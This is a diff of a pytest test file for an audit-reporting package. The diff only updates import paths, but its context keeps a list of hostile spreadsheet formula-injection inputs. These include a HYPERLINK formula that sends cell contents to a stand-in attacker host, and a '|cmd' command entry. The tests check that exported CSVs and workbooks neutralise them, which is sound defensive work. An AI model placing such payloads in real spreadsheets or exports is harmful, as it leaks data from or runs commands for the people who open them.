@@ -16,7 +16,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from kentaudit.safetext import FORMULA_PREFIXES, is_formula_text, neutralise_formula, neutralise_frame
+from kentaudit.core.safetext import (FORMULA_PREFIXES, is_formula_text, neutralise_formula, neutralise_frame)
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\n=1+1", '{=1+1}', "|cmd", "  =1+1", "http://evil.example/",
@@ -54,7 +54,7 @@ def test_neutralise_frame_handles_categoricals_and_headers():
 
 
 def test_results_table_csv_is_neutralised(tmp_path):
-    from kentaudit.results import save_table
+    from kentaudit.report.results import save_table
 
     df = pd.DataFrame({"auditor": HOSTILE, "n": range(len(HOSTILE))})
     save_table(df, "auditor_grades", tmp_path)
@@ -66,7 +66,7 @@ def test_validate_report_is_neutralised(tmp_path, capsys):
 
     sys.path.insert(0, str(Path(__file__).parent / "bad_input"))
     from make_corpus import to_csv_text, valid_rows
-    from kentaudit.ingest import validate_paths
+    from kentaudit.inputs.ingest import validate_paths
 
     rows = valid_rows(len(HOSTILE))
     for r, h in zip(rows, HOSTILE):
@@ -80,7 +80,7 @@ def test_validate_report_is_neutralised(tmp_path, capsys):
 
 
 def test_sample_lists_are_neutralised(tmp_path, capsys):
-    from kentaudit.sampling import draw_sample_cli
+    from kentaudit.inputs.sampling import draw_sample_cli
 
     frame = pd.DataFrame({"case_ref": [f"SYN-{i:07d}" for i in range(24)],
                           "district": [HOSTILE[i % 2] for i in range(24)],
@@ -95,7 +95,7 @@ def test_sample_lists_are_neutralised(tmp_path, capsys):
 @pytest.fixture(scope="module")
 def hostile_appendix(tmp_path_factory):
     from appendix_fake import write_fake_cycle
-    from kentaudit.appendix import build_appendix
+    from kentaudit.publication.appendix import build_appendix
 
     out = tmp_path_factory.mktemp("cycle") / "2009"
     params = write_fake_cycle(out)
@@ -131,8 +131,8 @@ def test_published_workbook_title_is_not_a_formula(hostile_appendix):
 
 
 def test_workbook_writer_neutralises_hostile_labels_and_urls(tmp_path):
-    from kentaudit.publish_xlsx import write_xlsx
-    from kentaudit.pubtable import AppendixContent, Column, PublicationTable
+    from kentaudit.publication.writers.xlsx import write_xlsx
+    from kentaudit.publication.table import AppendixContent, Column, PublicationTable
 
     data = pd.DataFrame({"district": HOSTILE, "n_files": range(10, 10 + len(HOSTILE))})
     t = PublicationTable("T1", "Files by district", data,
